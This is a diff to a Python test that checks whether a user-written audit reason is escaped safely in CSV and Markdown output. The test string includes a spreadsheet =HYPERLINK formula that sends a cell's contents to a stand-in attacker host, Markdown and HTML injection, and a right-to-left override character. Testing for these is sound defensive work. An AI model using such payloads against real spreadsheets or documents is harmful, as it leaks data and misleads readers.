@@ -431,7 +431,8 @@ def test_csv_one_row_per_access(summary: Summary) -> None:
 
 def test_reasons_open_as_text_in_a_spreadsheet_and_in_markdown(summary: Summary) -> None:
     """A requester writes the reason; the auditor opens the CSV in a spreadsheet and the Markdown in a viewer."""
-    evil = '=HYPERLINK("https://evil.example/?"&A1,"audit ok") see [docs](https://evil.example) <img src=x> `x`'
+    evil = ('=HYPERLINK("https://evil.example/?"&A1,"audit ok") see [docs](https://evil.example) <img src=x> `x` '
+            '&#x202E;gnitset')
     first = summary.reveals[0].model_copy(update={"reason": evil})
     changed = summary.model_copy(update={"reveals": [first, *summary.reveals[1:]]})
     rows = list(csv.DictReader(io.StringIO(render(changed, "csv"))))
@@ -440,7 +441,7 @@ def test_reasons_open_as_text_in_a_spreadsheet_and_in_markdown(summary: Summary)
     assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
     md = render(changed, "markdown")
     assert "\\[docs\\](https://evil.example)" in md and "\\<img src=x\\>" in md and "\\`x\\`" in md
-    assert not re.search(r"(?<!\\)\[docs|(?<!\\)<img", md)  # nothing left unescaped
+    assert not re.search(r"(?<!\\)\[docs|(?<!\\)<img|(?<!\\)&#x202E", md)  # nothing left unescaped
 
 
 def test_html_is_self_contained(summary: Summary) -> None:
